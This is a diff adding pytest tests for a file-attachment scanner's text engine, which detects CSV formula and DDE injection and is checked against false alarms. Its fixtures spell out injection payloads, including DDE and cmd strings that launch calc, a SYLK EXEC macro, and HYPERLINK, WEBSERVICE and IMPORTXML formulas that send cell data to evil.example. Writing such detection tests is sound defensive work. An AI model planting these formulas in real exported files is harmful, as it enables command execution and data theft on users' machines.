@@ -1,0 +1,190 @@
+"""Text engine: formula and DDE injection in CSV and text files, without false alarms."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from attachguard.codes import FindingCode
+from attachguard.engines.base import Item, Result
+from attachguard.engines.text import MAX_FINDINGS, TextEngine, classify, decode
+from attachguard.policy import Policy
+from attachguard.report import FileType
+
+CSV_TYPE = FileType("csv", "text/csv", "code", True)
+TXT_TYPE = FileType("txt", "text/plain", "text", True)
+
+PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
+    '=WEBSERVICE("http://evil.example/"&B2)',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    "=SUM(A1:A9)",
+    "@SUM(1,2)",
+    "\t=cmd|' /C calc'!A0",  # tab-prefixed
+    '\r=HYPERLINK("http://evil.example")',  # CR-prefixed
+    ' =cmd|" /C calc"!A0',  # space-prefixed
+]
+HARMLESS = [
+    "-12.50",
+    "+44 20 7946 0958",
+    "+1 (555) 0100",
+    "@handle",
+    "@alice (support)",
+    "- item one (fragile)",
+    "- see attached (2 pages)",
+    "Price (EUR)",
+    "- image (see attached)",
+    "- item 2 missing | see photo!",
+    "- what is DDE (dynamic data exchange)?",
+    "a|b",
+    "=1+1",
+    "'=cmd|' /C calc'!A0",  # Excel shows a cell starting with ' as text
+    "bob@example.com",
+    "",
+]
+
+
+def scan(policy: Policy, name: str, data: bytes, filetype: FileType = CSV_TYPE) -> Result:
+    return TextEngine().scan(Item(name, data, filetype), policy)
+
+
+def csv_bytes(rows: list[list[str]], delimiter: str = ",") -> bytes:
+    buf = io.StringIO()
+    csv.writer(buf, delimiter=delimiter).writerows(rows)
+    return buf.getvalue().encode()
+
+
+def located(result: Result) -> list[str | None]:
+    assert all(f.code is FindingCode.FORMULA_INJECTION for f in result.findings)
+    return [f.location for f in result.findings]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payload_in_csv_is_found_with_its_cell(policy, payload):
+    rows = [["name", "amount", "note"], ["Alice", "12.50", "ok"], ["Bob", payload, "x"]]
+    result = scan(policy, "orders.csv", csv_bytes(rows))
+    assert located(result) == ["row 3, column 2"]
+    assert payload.strip() not in result.findings[0].message  # never the content itself
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_harmless_cells_pass(policy, cell):
+    assert classify(cell) is None
+    rows = [["name", "value"], ["Alice", cell], ["Bob", cell]]
+    assert scan(policy, "contacts.csv", csv_bytes(rows)).findings == []
+
+
+def test_messages_say_what_kind_of_formula(policy):
+    rows = [["a"], ["=cmd|' /C calc'!A0"], ['=HYPERLINK("http://x.example")'], ["=SUM(A1:A2)"]]
+    messages = [f.message for f in scan(policy, "a.csv", csv_bytes(rows)).findings]
+    assert messages == [
+        "CSV cell with a formula that runs a command (DDE)",
+        "CSV cell with a formula calling HYPERLINK, which can open links or send data out",
+        "CSV cell with a spreadsheet formula",
+    ]
+
+
+def test_quoted_payload_with_delimiters_inside(policy):
+    data = b'id,note\n1,"=HYPERLINK(""http://evil.example/?a=1,2"",""x"")"\n'
+    assert located(scan(policy, "a.csv", data)) == ["row 2, column 2"]
+
+
+def test_rows_count_records_not_lines(policy):
+    data = b"id,note\n1,\"two\nlines\"\n2,=cmd|' /C calc'!A0\n"
+    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]
+
+
+def test_semicolon_csv(policy):
+    data = b"name;amount\nBob;-3,20\nEve;=cmd|' /C calc'!A0\n"
+    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]
+
+
+def test_excel_sep_directive(policy):
+    data = b"sep=;\nname;note\nEve;+cmd|' /C calc'!A0\n"
+    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]
+
+
+def test_payload_behind_another_locales_delimiter(policy):
+    # Read with ",", the cell is "x;=cmd..."; Excel in a ";" locale sees "=cmd..." in a cell.
+    data = b"name,note\nBob,x;=cmd|' /C calc'!A0\n"
+    assert located(scan(policy, "a.csv", data)) == ["row 2, column 2"]
+
+
+def test_utf16_csv_with_bom(policy):
+    text = 'name\tnote\r\nBob\t=HYPERLINK("http://evil.example")\r\n'
+    data = "\ufeff".encode("utf-16-le").join([b"", text.encode("utf-16-le")])
+    assert data.startswith(b"\xff\xfe")
+    result = scan(policy, "export.csv", data, TXT_TYPE)  # Magika: txt (low confidence)
+    assert located(result) == ["row 2, column 2"]
+
+
+def test_utf16_without_bom_and_latin1():
+    text = "name,note\nJosé,=cmd|' /C calc'!A0\n"
+    assert decode(text.encode("utf-16-le")) == text
+    assert decode(text.encode("utf-16-be")) == text
+    assert decode(text.encode("latin-1")) == text
+    assert decode(b"\xef\xbb\xbf" + text.encode()) == text
+
+
+def test_csv_the_csv_module_cannot_read_is_checked_line_by_line(policy):
+    huge = "x" * 200_000  # past the csv module's field size limit
+    data = f"id,note\n1,\"{huge}\n2,=cmd|' /C calc'!A0\n".encode()
+    assert located(scan(policy, "a.csv", data)) == ["line 3"]
+
+
+def test_text_file_gets_only_the_dde_rule(policy):
+    data = b"Hello,\nplease see =SUM(A1:A3) and =HYPERLINK(\"x\")\n=cmd|' /C calc'!A0\nThanks\n"
+    result = scan(policy, "letter.txt", data, TXT_TYPE)
+    assert [(f.message, f.location) for f in result.findings] == [
+        ("text a spreadsheet would run as a command (DDE)", "line 3")
+    ]
+
+
+def test_text_named_txt_gets_text_rules_even_when_magika_says_csv(policy):
+    data = b"name,total\nAnn,=SUM(A1:A3)\n"
+    assert scan(policy, "notes.txt", data, CSV_TYPE).findings == []
+    assert len(scan(policy, "notes.csv", data, CSV_TYPE).findings) == 1
+
+
+def test_dde_call_in_text(policy):
+    result = scan(policy, "a.txt", b'id;note\n1;=DDE("cmd";"/c calc";"x")\n', TXT_TYPE)
+    assert located(result) == ["line 2"]
+
+
+def test_plain_text_passes(policy):
+    letter = (
+        b"Dear support,\n- the box (large) arrived crushed\n- item 2 missing | see photo!\n"
+        b"Call me on +44 20 7946 0958 or @ann_smith.\nTotal: -12.50 EUR (refund)\n"
+    )
+    assert scan(policy, "letter.txt", letter, TXT_TYPE).findings == []
+
+
+def test_findings_are_capped(policy):
+    rows = [["n"]] + [["=cmd|' /C calc'!A0"]] * 50
+    assert len(scan(policy, "a.csv", csv_bytes(rows)).findings) == MAX_FINDINGS
+
+
+def test_sylk_posing_as_csv_is_flagged():
+    from attachguard.engines.base import Item
+    from attachguard.engines.text import TextEngine
+    from attachguard.policy import load_policy
+    from attachguard.report import FileType
+
+    sylk = b'ID;P\nC;Y1;X1;K0;E EXEC("calc.exe")\nE\n'
+    result = TextEngine().scan(
+        Item("prices.csv", sylk, FileType("csv", "text/csv", "code", True)), load_policy()
+    )
+    assert [f.code.name for f in result.findings] == ["XLM_MACRO"]
+    plain = b"IDENTIFIER;NAME\n1;Alice\n"
+    result = TextEngine().scan(
+        Item("ids.csv", plain, FileType("csv", "text/csv", "code", True)), load_policy()
+    )
+    assert result.findings == []
